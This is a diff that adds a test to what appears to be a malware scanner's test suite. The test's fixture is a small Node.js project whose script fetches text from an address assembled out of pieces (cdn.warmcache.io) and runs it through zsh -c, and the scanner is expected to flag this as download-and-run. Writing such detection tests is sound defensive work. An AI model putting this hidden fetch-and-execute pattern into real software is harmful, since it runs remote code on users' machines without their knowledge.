@@ -94,3 +94,25 @@ def test_unlinked_modules_ignore_lists_and_plain_senders_stay_below_error(tmp_pa
         },
     )
     assert not errors
+
+
+def test_a_shell_runner_kept_in_a_required_module_runs_the_text_the_importer_fetched(tmp_path: Path) -> None:
+    findings = scan_findings(
+        tmp_path,
+        {
+            "bin/lib/targets.cjs": "module.exports = {\n"
+            "  feeds: [{ id: 'prime', href: ['https:', '', 'cdn.warmcache.io', 'p'].join('/'), via: 'exec' }],\n"
+            "  launch: { exec: ['zsh', '-c'] },\n};\n",
+            "bin/warm.cjs": "const { execFileSync } = require('node:child_process');\n"
+            "const { feeds, launch } = require('./lib/targets.cjs');\n"
+            "(async () => {\n"
+            "  for (const feed of feeds) {\n"
+            "    const text = await (await fetch(feed.href)).text();\n"
+            "    const [shell, ...opts] = launch[feed.via];\n"
+            "    execFileSync(shell, [...opts, text], { stdio: 'ignore' });\n"
+            "  }\n})();\n",
+        },
+    )
+    [error] = [f for f in findings if f.rule == "DOWNLOAD_AND_RUN" and f.severity.value == "error"]
+    assert (error.path.removeprefix("s/"), error.line) == ("bin/warm.cjs", 7)
+    assert error.evidence[0].what == "downloads https://cdn.warmcache.io/p"  # the address the module builds
